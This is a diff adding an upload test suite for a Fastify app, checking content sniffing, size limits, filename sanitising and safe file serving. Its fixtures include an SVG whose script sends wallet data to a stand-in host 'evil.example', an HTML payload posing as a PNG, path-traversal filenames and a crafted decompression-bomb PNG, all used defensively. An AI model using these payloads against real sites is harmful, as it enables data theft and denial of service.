@@ -1,0 +1,401 @@
+// Upload checks over HTTP. No public upload route exists yet (entries, deliveries and messages own
+// their routes), so this file builds a small Fastify app with the project's error handling and the
+// same multipart registration, and routes that call readUpload / saveFiles / sendStoredFile
+// exactly as a feature will. Real PostgreSQL, real storage on disk.
+import assert from "node:assert/strict";
+import fs from "node:fs/promises";
+import os from "node:os";
+import path from "node:path";
+import { after, before, test } from "node:test";
+import { deflateSync } from "node:zlib";
+import Fastify, { type FastifyInstance } from "fastify";
+import sharp from "sharp";
+import { createTestDatabase } from "../../test/helpers/db.ts";
+import { findFile, getFile, listDerivedFiles, saveFiles } from "../files/files.queries.ts";
+import { IMAGE_TYPES } from "../files/media-types.ts";
+import { sendStoredFile } from "../files/serve.ts";
+import { LocalFileStorage } from "../files/storage.ts";
+import { installErrorHandling } from "./errors.ts";
+import { readUpload, registerMultipart, type UploadLimits } from "./uploads.ts";
+
+let database: Awaited<ReturnType<typeof createTestDatabase>>;
+let dataDir: string;
+let storage: LocalFileStorage;
+let app: FastifyInstance;
+const limits: Partial<UploadLimits> = {
+  maxFileBytes: 300 * 1024,
+  maxRequestBytes: 500 * 1024,
+  maxFiles: 5,
+};
+
+before(async () => {
+  database = await createTestDatabase();
+  dataDir = await fs.mkdtemp(path.join(os.tmpdir(), "lj-uploads-"));
+  storage = new LocalFileStorage(path.join(dataDir, "files"));
+  app = Fastify({ logger: false });
+  installErrorHandling(app);
+  await registerMultipart(app, limits);
+  app.post("/upload", async (request, reply) => {
+    const query = request.query as { images?: string; max?: string };
+    const upload = await readUpload(
+      request,
+      { storage, limits },
+      {
+        maxFiles: query.max ? Number(query.max) : undefined,
+        accept: query.images ? IMAGE_TYPES : undefined,
+      },
+    );
+    await database.db.transaction().execute((tx) => saveFiles(tx, "acct-1", upload.files));
+    return reply.status(201).send({
+      fields: upload.fields,
+      files: upload.files.map((f) => ({ ...f, fingerprint: f.fingerprint ? "yes" : null })),
+    });
+  });
+  app.get("/files/:id", async (request, reply) => {
+    const file = await getFile(database.db, (request.params as { id: string }).id);
+    return sendStoredFile(reply, storage, file);
+  });
+  await app.ready();
+});
+after(async () => {
+  await app.close();
+  await database.drop();
+  await fs.rm(dataDir, { recursive: true, force: true });
+});
+
+type Part = { name: string; value: string | Buffer; filename?: string; type?: string };
+async function post(parts: Part[], url = "/upload") {
+  const form = new FormData();
+  for (const p of parts) {
+    if (typeof p.value === "string" && p.filename === undefined) form.append(p.name, p.value);
+    else
+      form.append(
+        p.name,
+        new Blob([p.value], { type: p.type ?? "application/octet-stream" }),
+        p.filename ?? "x",
+      );
+  }
+  const request = new Request("http://local/", { method: "POST", body: form });
+  return app.inject({
+    method: "POST",
+    url,
+    headers: { "content-type": request.headers.get("content-type") as string },
+    payload: Buffer.from(await request.arrayBuffer()),
+  });
+}
+
+function assertError(res: { statusCode: number; body: string }, status: number, code: string) {
+  assert.equal(res.statusCode, status, res.body);
+  const json = JSON.parse(res.body);
+  assert.deepEqual(Object.keys(json).sort(), ["error", "requestId"]);
+  assert.equal(json.error.code, code);
+  assert.ok(json.error.message.length > 0);
+  assert.doesNotMatch(res.body, /at \S+ \(|node:internal|\.ts:\d+/, "no stack trace");
+}
+
+const png = (width = 640, height = 480, colour = "#3366cc") =>
+  sharp({ create: { width, height, channels: 3, background: colour } })
+    .composite([
+      {
+        input: Buffer.from(
+          `<svg width="${width}" height="${height}"><circle cx="${width / 2}" cy="${height / 2}" r="${height / 3}" fill="#fc3"/></svg>`,
+        ),
+      },
+    ])
+    .png()
+    .toBuffer();
+
+async function stagingIsEmpty() {
+  const left = await fs.readdir(storage.stagingDir).catch(() => []);
+  assert.deepEqual(left, [], "no staging files left behind");
+}
+
+async function countFiles() {
+  const row = await database.db
+    .selectFrom("files")
+    .select((eb) => eb.fn.countAll<number>().as("n"))
+    .executeTakeFirstOrThrow();
+  return Number(row.n);
+}
+
+test("a real PNG is stored by hash, with dimensions, thumbnail, watermarked preview and fingerprint", async () => {
+  const bytes = await png(1600, 1000);
+  const res = await post([
+    { name: "note", value: "我的第一稿" },
+    { name: "files", value: bytes, filename: "标志 logo.PNG", type: "image/png" },
+  ]);
+  assert.equal(res.statusCode, 201, res.body);
+  const body = res.json();
+  assert.deepEqual(body.fields, { note: "我的第一稿" });
+  const [file] = body.files;
+  assert.equal(file.mediaType, "image/png");
+  assert.equal(file.width, 1600);
+  assert.equal(file.height, 1000);
+  assert.equal(file.byteSize, bytes.length);
+  assert.equal(file.originalName, "标志 logo.png");
+  assert.equal(file.fingerprint, "yes");
+  assert.match(file.sha256, /^[0-9a-f]{64}$/);
+  // DATA_DIR/files/ab/cd/<sha256>, and the bytes are the upload's.
+  const onDisk = path.join(dataDir, "files", file.sha256.slice(0, 2), file.sha256.slice(2, 4), file.sha256);
+  assert.deepEqual(await fs.readFile(onDisk), bytes);
+  assert.equal(file.thumbnail.width, 400);
+  assert.equal(file.thumbnail.height, 250);
+  assert.equal(file.preview.width, 1200);
+  const preview = await storage.get(file.preview.sha256);
+  assert.equal((await sharp(preview).metadata()).format, "webp");
+  // The preview is visibly marked: it differs from a plain resize of the original.
+  const plain = await sharp(bytes).resize(1200).raw().toBuffer();
+  const marked = await sharp(preview).raw().toBuffer();
+  let changed = 0;
+  for (let i = 0; i < plain.length; i += 3)
+    if (Math.abs((plain[i] as number) - (marked[i] as number)) > 12) changed++;
+  assert.ok(
+    changed / (plain.length / 3) > 0.03,
+    `watermark covers ${((changed / (plain.length / 3)) * 100).toFixed(1)}% of pixels`,
+  );
+
+  const row = await findFile(database.db, file.id);
+  assert.equal(row?.uploaderId, "acct-1");
+  const derived = await listDerivedFiles(database.db, file.id);
+  assert.deepEqual(derived.map((d) => d.variant).sort(), ["preview", "thumbnail"]);
+  const fp = await database.db
+    .selectFrom("image_fingerprints")
+    .selectAll()
+    .where("file_id", "=", file.id)
+    .executeTakeFirst();
+  assert.ok(fp);
+  assert.match(fp.phash, /^[01]{64}$/);
+  assert.equal(fp.created_at.getTime(), row?.createdAt.getTime());
+
+  const served = await app.inject(`/files/${file.id}`);
+  assert.equal(served.statusCode, 200);
+  assert.equal(served.headers["content-type"], "image/png");
+  assert.equal(served.headers["x-content-type-options"], "nosniff");
+  assert.match(
+    served.headers["content-disposition"] as string,
+    /^inline; filename="__ logo\.png"; filename\*=UTF-8''%E6%A0%87%E5%BF%97%20logo\.png$/,
+  );
+  assert.deepEqual(served.rawPayload, bytes);
+  await stagingIsEmpty();
+});
+
+test("a fake PNG (text with a .png name and image/png type) is refused with 415 and leaves nothing", async () => {
+  const before = await countFiles();
+  const res = await post([
+    {
+      name: "files",
+      value: Buffer.from("<html><script>alert(1)</script></html>"),
+      filename: "logo.png",
+      type: "image/png",
+    },
+  ]);
+  assertError(res, 415, "unsupported_media_type");
+  assert.equal(await countFiles(), before);
+  await stagingIsEmpty();
+  // A real image among the files does not let a fake one through: the whole request is refused.
+  const mixed = await post([
+    { name: "files", value: await png(), filename: "ok.png", type: "image/png" },
+    { name: "files", value: Buffer.from("MZ\x90\x00 not an image"), filename: "b.png", type: "image/png" },
+  ]);
+  assertError(mixed, 415, "unsupported_media_type");
+  assert.equal(await countFiles(), before);
+});
+
+test("the type comes from the content, not the name: a JPEG named .png is a JPEG", async () => {
+  const jpeg = await sharp(await png())
+    .jpeg()
+    .toBuffer();
+  const res = await post([{ name: "files", value: jpeg, filename: "photo.png", type: "image/png" }]);
+  assert.equal(res.statusCode, 201, res.body);
+  assert.equal(res.json().files[0].mediaType, "image/jpeg");
+  assert.equal(res.json().files[0].originalName, "photo.jpg");
+});
+
+const evilSvg = `<?xml version="1.0"?>
+<!-- harmless looking -->
+<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100" onload="alert(document.cookie)">
+  <script>fetch('/api/v1/wallet').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>
+  <circle cx="50" cy="50" r="40" fill="red"/>
+</svg>`;
+
+test("an SVG with script is never served inline: octet-stream attachment, sandboxed, nosniff", async () => {
+  const res = await post([
+    { name: "files", value: Buffer.from(evilSvg), filename: "logo.svg", type: "image/svg+xml" },
+  ]);
+  assert.equal(res.statusCode, 201, res.body);
+  const file = res.json().files[0];
+  assert.equal(file.mediaType, "image/svg+xml");
+  assert.equal(file.thumbnail, null, "an SVG is never rendered by the server either");
+  assert.equal(file.preview, null);
+  const served = await app.inject(`/files/${file.id}`);
+  assert.equal(served.statusCode, 200);
+  assert.equal(served.headers["content-type"], "application/octet-stream");
+  assert.match(served.headers["content-disposition"] as string, /^attachment; /);
+  assert.match(served.headers["content-security-policy"] as string, /\bsandbox\b/);
+  assert.match(served.headers["content-security-policy"] as string, /default-src 'none'/);
+  assert.equal(served.headers["x-content-type-options"], "nosniff");
+  // Where only images are accepted (an entry's gallery), an SVG is refused outright.
+  const refused = await post(
+    [{ name: "files", value: Buffer.from(evilSvg), filename: "logo.svg" }],
+    "/upload?images=1",
+  );
+  assertError(refused, 415, "unsupported_media_type");
+  // Disguised as a PNG it is still recognised (and still only a download).
+  const disguised = await post([
+    { name: "files", value: Buffer.from(`\uFEFF  ${evilSvg}`), filename: "x.png", type: "image/png" },
+  ]);
+  assert.equal(disguised.json().files[0].mediaType, "image/svg+xml");
+  assert.equal(disguised.json().files[0].originalName, "x.svg");
+});
+
+test("PDF and ZIP are accepted as downloads only", async () => {
+  const pdf = Buffer.from("%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n");
+  const zip = Buffer.from([0x50, 0x4b, 0x05, 0x06, ...new Array(18).fill(0)]);
+  const res = await post([
+    { name: "files", value: pdf, filename: "brief.pdf" },
+    { name: "files", value: zip, filename: "sources.zip" },
+  ]);
+  assert.equal(res.statusCode, 201, res.body);
+  const [p, z] = res.json().files;
+  assert.equal(p.mediaType, "application/pdf");
+  assert.equal(z.mediaType, "application/zip");
+  const served = await app.inject(`/files/${z.id}`);
+  assert.match(served.headers["content-disposition"] as string, /^attachment; filename="sources\.zip"/);
+});
+
+test("a file over the per-file limit, files over the request limit, and too many files → 413", async () => {
+  const before = await countFiles();
+  const big = Buffer.concat([Buffer.from("%PDF-1.4\n"), Buffer.alloc(310 * 1024, 0x20)]);
+  assertError(await post([{ name: "files", value: big, filename: "big.pdf" }]), 413, "payload_too_large");
+  const medium = Buffer.concat([Buffer.from("%PDF-1.4\n"), Buffer.alloc(200 * 1024, 0x20)]);
+  const three = [1, 2, 3].map((i) => ({
+    name: "files",
+    value: Buffer.concat([medium, Buffer.from([i])]),
+    filename: `${i}.pdf`,
+  }));
+  assertError(await post(three), 413, "payload_too_large");
+  const small = await png(10, 10);
+  const six = [1, 2, 3, 4, 5, 6].map((i) => ({ name: "files", value: small, filename: `${i}.png` }));
+  assertError(await post(six), 413, "payload_too_large");
+  const two = [1, 2].map((i) => ({ name: "files", value: small, filename: `${i}.png` }));
+  assertError(await post(two, "/upload?max=1"), 413, "payload_too_large");
+  assert.equal(await countFiles(), before);
+  await stagingIsEmpty();
+});
+
+/** A PNG whose header claims width × height, followed by a tiny (valid) compressed first row. */
+function pngClaiming(width: number, height: number) {
+  const chunk = (type: string, data: Buffer) => {
+    const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
+    const len = Buffer.alloc(4);
+    len.writeUInt32BE(data.length);
+    const crc = Buffer.alloc(4);
+    crc.writeUInt32BE(crc32(body));
+    return Buffer.concat([len, body, crc]);
+  };
+  const ihdr = Buffer.alloc(13);
+  ihdr.writeUInt32BE(width, 0);
+  ihdr.writeUInt32BE(height, 4);
+  ihdr.set([8, 2, 0, 0, 0], 8);
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    chunk("IHDR", ihdr),
+    chunk("IDAT", deflateSync(Buffer.alloc(1 + width * 3))),
+    chunk("IEND", Buffer.alloc(0)),
+  ]);
+}
+function crc32(buf: Buffer) {
+  let c = ~0;
+  for (const byte of buf) {
+    c ^= byte;
+    for (let k = 0; k < 8; k++) c = c & 1 ? (c >>> 1) ^ 0xedb88320 : c >>> 1;
+  }
+  return ~c >>> 0;
+}
+
+test("a decompression bomb (a small PNG claiming 100 megapixels) → 400 before anything is decoded", async () => {
+  const bomb = pngClaiming(10_000, 10_000);
+  assert.ok(bomb.length < 40_000, `the bomb is small: ${bomb.length} bytes`);
+  const started = performance.now();
+  const res = await post([{ name: "files", value: bomb, filename: "bomb.png", type: "image/png" }]);
+  assertError(res, 400, "invalid_input");
+  assert.match(res.json().error.message, /10000×10000 pixels/);
+  assert.ok(performance.now() - started < 2000, "refused from the header, not after decoding");
+  // Just over the 40 MP default (8000 × 5001) is refused too; just under is not refused for size.
+  assertError(
+    await post([{ name: "files", value: pngClaiming(8000, 5001), filename: "b.png" }]),
+    400,
+    "invalid_input",
+  );
+  await stagingIsEmpty();
+});
+
+test("a damaged image with a valid signature → 400, not 500", async () => {
+  const good = await png(200, 200);
+  const damaged = Buffer.concat([good.subarray(0, 60), Buffer.alloc(200, 0xab)]);
+  assertError(await post([{ name: "files", value: damaged, filename: "d.png" }]), 400, "invalid_input");
+});
+
+test("bad requests: not multipart → 415; a file in another field, a field twice, an empty file → 400", async () => {
+  const json = await app.inject({ method: "POST", url: "/upload", payload: { files: "x" } });
+  assertError(json, 415, "unsupported_media_type");
+  const small = await png(10, 10);
+  assertError(await post([{ name: "avatar", value: small, filename: "a.png" }]), 400, "invalid_input");
+  assertError(
+    await post([
+      { name: "note", value: "a" },
+      { name: "note", value: "b" },
+    ]),
+    400,
+    "invalid_input",
+  );
+  assertError(
+    await post([{ name: "files", value: Buffer.alloc(0), filename: "empty.png" }]),
+    400,
+    "invalid_input",
+  );
+  // A body cut off in the middle.
+  const form = new FormData();
+  form.append("files", new Blob([small]), "a.png");
+  const request = new Request("http://local/", { method: "POST", body: form });
+  const whole = Buffer.from(await request.arrayBuffer());
+  const cut = await app.inject({
+    method: "POST",
+    url: "/upload",
+    headers: { "content-type": request.headers.get("content-type") as string },
+    payload: whole.subarray(0, whole.length - 60),
+  });
+  assert.ok(cut.statusCode >= 400 && cut.statusCode < 500, `cut body → ${cut.statusCode} ${cut.body}`);
+  await stagingIsEmpty();
+});
+
+test("names are sanitised: no path, no control characters, the detected extension", async () => {
+  const res = await post([
+    { name: "files", value: await png(20, 20), filename: "../..\\etc/pass<wd>|\u0007.exe" },
+  ]);
+  assert.equal(res.statusCode, 201, res.body);
+  assert.equal(res.json().files[0].originalName, "passwd.png");
+});
+
+test("storage round trip; the same bytes uploaded twice are stored once (two rows, one blob)", async () => {
+  const bytes = await png(300, 200, "#aa2244");
+  const first = (await post([{ name: "files", value: bytes, filename: "a.png" }])).json().files[0];
+  const second = (await post([{ name: "files", value: bytes, filename: "b.png" }])).json().files[0];
+  assert.notEqual(first.id, second.id);
+  assert.equal(first.sha256, second.sha256);
+  const dir = path.join(dataDir, "files", first.sha256.slice(0, 2), first.sha256.slice(2, 4));
+  assert.deepEqual(await fs.readdir(dir), [first.sha256]);
+  assert.equal((await getFile(database.db, second.id)).originalName, "b.png");
+
+  const blob = await storage.put(Buffer.from("hello 两江"));
+  assert.equal(blob.byteSize, Buffer.byteLength("hello 两江"));
+  assert.equal((await storage.get(blob.sha256)).toString(), "hello 两江");
+  const chunks: Buffer[] = [];
+  for await (const c of storage.stream(blob.sha256, { start: 6, end: 11 })) chunks.push(c as Buffer);
+  assert.equal(Buffer.concat(chunks).toString(), "两江");
+  assert.equal(await storage.exists(blob.sha256), true);
+  assert.equal(await storage.exists("0".repeat(64)), false);
+  assert.deepEqual(await storage.put(Buffer.from("hello 两江")), blob, "putting again is harmless");
+  assert.throws(() => storage.pathOf("../../etc/passwd"), /Not a sha256 key/);
+  assert.equal(await findFile(database.db, "not-a-uuid"), undefined);
+});
